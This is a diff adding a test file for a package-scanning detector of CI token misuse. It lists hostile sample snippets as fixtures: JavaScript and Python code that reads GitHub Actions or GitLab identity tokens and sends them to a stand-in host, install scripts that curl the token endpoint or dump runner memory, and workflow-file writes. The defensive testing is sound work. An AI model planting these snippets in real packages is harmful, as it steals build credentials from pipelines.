@@ -1,0 +1,133 @@
+"""Reaching for a build's identity is told; tools whose business that is are told softly, ordinary tokens not at all."""
+
+from __future__ import annotations
+
+import pytest
+
+from app.core.package import Package
+from app.core.specimen import ArtifactFacts, Specimen
+from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
+from worker.detectors import ci_token_misuse
+
+
+def severities(artifact: ArtifactFacts) -> list[str]:
+    """How grave what it tells is."""
+    return [str(found.severity) for found in findings(ci_token_misuse, artifact)]
+
+
+JAVASCRIPT = [
+    "const u = process.env.ACTIONS_ID_TOKEN_REQUEST_URL; fetch(u);",
+    "const u = process.env['ACTIONS_ID_TOKEN' + '_REQUEST_TOKEN']; fetch('https://drop.example/' + u);",
+    "const { ACTIONS_RUNTIME_TOKEN: t } = process.env; fetch('https://drop.example/', { headers: { t } });",
+    "const e = process['en' + 'v']; const key = `CI_JOB_${'JWT'}`; module.exports = e[key];",
+    "const { env } = require('process'); module.exports = env.CIRCLE_OIDC_TOKEN;",
+]
+PYTHON = [
+    "import os\nTOKEN = os.environ['ACTIONS_ID_TOKEN_REQUEST_TOKEN']\n",
+    "from os import getenv as g\nTOKEN = g('ACTIONS_RUNTIME' + '_TOKEN')\n",
+    "e = getattr(__import__('os'), 'environ')\nTOKEN = e.get('CI_JOB_JWT_V2')\n",
+    "import os\nopen(os.path.join('/proc', str(pid), 'mem'), 'rb').read()\n",
+    "import glob, re\nfor p in glob.glob('/proc/*/cmdline'):\n    if 'Runner.Worker' in open(p).read() and '/proc/' in p:\n        print(p)\n",
+]
+
+
+class TestAlarm:
+    @pytest.mark.parametrize("source", JAVASCRIPT)
+    def test_the_ways_of_javascript(self, source: str) -> None:
+        assert severities(npm({"index.js": source})) == ["high"]
+        assert severities(npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == ["high"]
+
+    @pytest.mark.parametrize("source", PYTHON)
+    def test_the_ways_of_python(self, source: str) -> None:
+        assert set(severities(wheel({"imgpress/__init__.py": source}))) == {"high"}
+
+    @pytest.mark.parametrize(
+        "command",
+        [
+            'curl -H "Authorization: bearer $ACTIONS_ID_TOKEN_REQUEST_TOKEN" "$ACTIONS_ID_TOKEN_REQUEST_URL"',
+            "cat /proc/$(pgrep -f Runner.Worker)/mem | base64",
+            "mkdir -p .github/workflows && echo x > .github/workflows/ci.yml",
+        ],
+    )
+    def test_the_ways_of_a_shell(self, command: str) -> None:
+        assert set(severities(npm(scripts={"postinstall": command}))) == {"high"}
+
+    def test_it_says_what_it_asks_for_and_shows_the_line(self) -> None:
+        (found,) = findings(ci_token_misuse, npm({"a.js": JAVASCRIPT[0]}, scripts={"postinstall": "node a.js"}))
+        assert told([found]) == ["high: its install step asks for an identity token of GitHub Actions"]
+        assert places(found) == ["package.json:5", "a.js:1"]
+
+    @pytest.mark.parametrize(
+        "source",
+        [
+            "require('fs').writeFileSync('.github/workflows/x.yml', 'on: push');",
+            "const { join } = require('path'); require('fs').writeFileSync(join(process.cwd(), '.github', 'work' + 'flows', 'x.yml'), 'on: push');",
+        ],
+    )
+    def test_a_workflow_that_an_install_step_writes_is_high(self, source: str) -> None:
+        assert severities(npm({"a.js": source}, scripts={"postinstall": "node a.js"})) == ["high"]
+
+    def test_a_tool_for_builds_that_does_so_when_it_is_installed_is_high_as_well(self) -> None:
+        artifact = npm({"a.js": JAVASCRIPT[0]}, scripts={"postinstall": "node a.js"})
+        (found,) = ci_token_misuse.detect(Specimen(Package.parse("npm/@actions/core@1.11.0"), artifact))
+        assert found.severity == "high"
+
+    def test_a_setup_script_is_high(self) -> None:
+        assert severities(sdist({"setup.py": PYTHON[0]})) == ["high"]
+
+
+class TestInnocentTwin:
+    @pytest.mark.parametrize(
+        "name",
+        ["npm/@actions/core@1.11.0", "npm/@sigstore/sign@3.0.0", "npm/semantic-release@24.0.0", "npm/npm@10.0.0"],
+    )
+    def test_a_tool_for_builds_is_only_monitored(self, name: str) -> None:
+        """The shape of the toolkit of GitHub Actions: it asks for the token when a workflow tells it to."""
+        source = """
+class OidcClient {
+  static getRequestToken() {
+    const token = process.env['ACTIONS_ID_TOKEN_REQUEST_TOKEN'];
+    if (!token) throw new Error('Unable to get ACTIONS_ID_TOKEN_REQUEST_TOKEN env variable');
+    return token;
+  }
+}
+exports.OidcClient = OidcClient;
+"""
+        found = list(ci_token_misuse.detect(Specimen(Package.parse(name), npm({"index.js": source}))))
+        assert [str(one.severity) for one in found] == ["medium"]
+
+    def test_a_generator_of_projects_that_writes_workflows_is_only_monitored(self) -> None:
+        source = "const fs = require('fs'); module.exports = (dir) => fs.writeFileSync(dir + '/.github/workflows/ci.yml', 'on: push');"
+        assert severities(npm({"index.js": source})) == ["medium"]
+
+    @pytest.mark.parametrize(
+        "source",
+        [
+            "module.exports = Boolean(process.env.CI || process.env.GITHUB_ACTIONS || process.env.GITLAB_CI);",
+            "const t = process.env.GITHUB_TOKEN; module.exports = (u) => fetch(u, { headers: { authorization: t } });",
+            "module.exports = 'ACTIONS_ID_TOKEN_REQUEST_URL is set by GitHub';",
+            "const m = require('fs').readFileSync('/proc/meminfo', 'utf8');",
+            "const m = require('fs').readFileSync('/proc/self/maps', 'utf8');",
+            "const y = require('fs').readFileSync('.github/workflows/ci.yml', 'utf8');",
+        ],
+    )
+    def test_ordinary_javascript(self, source: str) -> None:
+        assert findings(ci_token_misuse, npm({"index.js": source})) == []
+
+    @pytest.mark.parametrize(
+        "source",
+        [
+            "import os\nIS_CI = 'CI' in os.environ\n",
+            "def maps(pid):\n    with open(f'/proc/{pid}/smaps') as f:\n        return f.read()\n",
+            "import os\n\n\ndef memory(pid):\n    return open('/proc/%d/statm' % pid).read()\n",
+        ],
+    )
+    def test_ordinary_python(self, source: str) -> None:
+        assert findings(ci_token_misuse, wheel({"imgpress/__init__.py": source})) == []
+
+    def test_in_a_test_it_is_low(self) -> None:
+        assert severities(npm({"test/x.js": JAVASCRIPT[0]})) == ["low"]
+
+    def test_what_the_old_version_did_is_not_new(self) -> None:
+        old = npm({"index.js": JAVASCRIPT[0]})
+        assert [found.new for found in findings(ci_token_misuse, old, old)] == [False]
